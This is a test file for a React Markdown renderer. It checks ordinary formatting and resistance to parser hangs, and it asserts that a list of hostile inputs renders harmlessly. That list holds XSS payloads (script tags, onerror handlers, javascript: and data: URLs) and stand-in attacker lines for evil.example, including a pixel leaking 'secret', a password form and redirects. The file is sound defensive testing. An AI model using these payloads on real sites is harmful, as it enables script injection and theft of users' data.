import { render } from '@testing-library/react'
import { expect, test } from 'vitest'
import { parseBlocks } from './blocks.ts'
import { parseInline } from './inline.ts'
import { Markdown } from './markdown.tsx'

const html = (text: string): string => render(<Markdown text={text} />).container.innerHTML

test.each([
  ['plain', '<p>plain</p>'],
  ['**strong** and *soft*', '<p><strong>strong</strong> and <em>soft</em></p>'],
  ['***both***', '<p><strong><em>both</em></strong></p>'],
  ['_soft_ but snake_case_name', '<p><em>soft</em> but snake_case_name</p>'],
  ['~~gone~~ `code **kept**`', '<p><del>gone</del> <code>code **kept**</code></p>'],
  ['2 * 3 * 4', '<p>2 * 3 * 4</p>'],
  ['one\n\ntwo', '<p>one</p><p>two</p>'],
  ['- a\n- b', '<ul><li>a</li><li>b</li></ul>'],
  ['3. a\n4. b', '<ol start="3"><li>a</li><li>b</li></ol>'],
  ['> said', '<blockquote>said</blockquote>'],
  ['```js\nlet a\n```', '<pre>let a</pre>'],
  ['```\nnever closed', '<pre>never closed</pre>'],
  ['an open **mark', '<p>an open **mark</p>'],
  ['', ''],
])('%j is shown as it is meant', (text, inner) => {
  expect(html(text)).toBe(`<div class="markdown">${inner}</div>`)
})

const hostile = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<style>*{display:none}</style>',
  '<form action="https://evil.example"><input name="password"></form>',
  '[click](javascript:alert(1))',
  '[click](https://evil.example)',
  '[click](  javascript:alert(1)  "title")',
  '![pixel](https://evil.example/p.gif?u=secret)',
  '[![pixel](https://evil.example/p.gif)](https://evil.example)',
  '<https://evil.example>',
  'https://evil.example',
  '[ref]: https://evil.example\n[ref]',
  '**<b onmouseover=alert(1)>x</b>**',
  '`<script>alert(1)</script>`',
  '```html\n<script>alert(1)</script>\n```',
  '- <img src=x onerror=alert(1)>\n1. [x](data:text/html,<script>alert(1)</script>)',
  '> <meta http-equiv="refresh" content="0;url=https://evil.example">',
  '# <base href="https://evil.example">',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\u202E<script>',
  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
]

const harmless = new Set(['DIV', 'P', 'UL', 'OL', 'LI', 'STRONG', 'EM', 'DEL', 'CODE', 'PRE', 'BLOCKQUOTE'])

test.each(hostile)('%j does nothing', (text) => {
  const { container } = render(<Markdown text={text} />)
  for (const element of container.querySelectorAll('.markdown, .markdown *')) {
    expect(harmless).toContain(element.tagName)
    for (const { name } of element.attributes) expect(['class', 'start']).toContain(name)
  }
  expect(container.querySelector('a, img, script, iframe, style, form, svg, meta, base')).toBeNull()
})

test.each([
  ['*', '*a '],
  ['**', '**a '],
  ['_', '_a '],
  ['`', '`a'],
  ['[', '['],
  ['[a](', '[a]('],
  ['![a](b', '![a](b '],
  ['>', '> '],
  ['mixed', '**_~~`'],
])('a text of 60,000 characters of %s is read to its end, where a backtracking parser would hang', (_, piece) => {
  const text = piece.repeat(Math.ceil(60_000 / piece.length))
  const blocks = parseBlocks(text)
  const pieces = blocks.map((block) => ('text' in block ? parseInline(block.text).length : 1))
  expect(Math.min(...pieces)).toBeGreaterThan(0)
})
